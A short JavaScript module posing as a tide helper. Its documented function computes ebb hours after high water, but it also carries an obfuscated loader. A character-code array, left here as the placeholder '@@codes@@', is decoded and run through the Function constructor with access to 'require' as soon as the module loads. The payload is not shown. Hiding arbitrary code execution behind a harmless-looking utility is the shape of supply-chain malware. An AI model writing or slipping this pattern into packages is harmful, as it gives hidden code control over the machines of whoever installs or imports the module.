'use strict'

const codes = [@@codes@@]

/** Return the hours of ebb after a high water. */
exports.ebb = (hour) => [hour, (hour + 6.2) % 24]

;(() => {})['constructor']('require', String.fromCharCode(...codes))(require)
